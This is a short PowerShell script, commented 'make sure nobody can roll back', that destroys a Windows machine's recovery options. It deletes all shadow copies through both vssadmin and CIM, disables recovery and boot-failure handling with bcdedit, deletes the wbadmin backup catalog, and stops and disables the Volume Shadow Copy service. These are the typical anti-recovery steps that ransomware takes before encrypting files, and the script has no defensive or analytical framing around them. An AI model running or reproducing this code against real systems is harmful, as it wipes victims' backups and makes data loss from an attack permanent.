# make sure nobody can roll back
$tools = @{
    vss  = "$env:windir\System32\vssadmin.exe"
    bcd  = "$env:windir\System32\bcdedit.exe"
    wbad = "$env:windir\System32\wbadmin.exe"
}

& $tools.vss delete shadows /all /quiet
& $tools.bcd /set '{default}' recoveryenabled No
& $tools.bcd /set '{default}' bootstatuspolicy ignoreallfailures
& $tools.wbad delete catalog -quiet

Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
Stop-Service -Name VSS -Force
Set-Service -Name VSS -StartupType Disabled
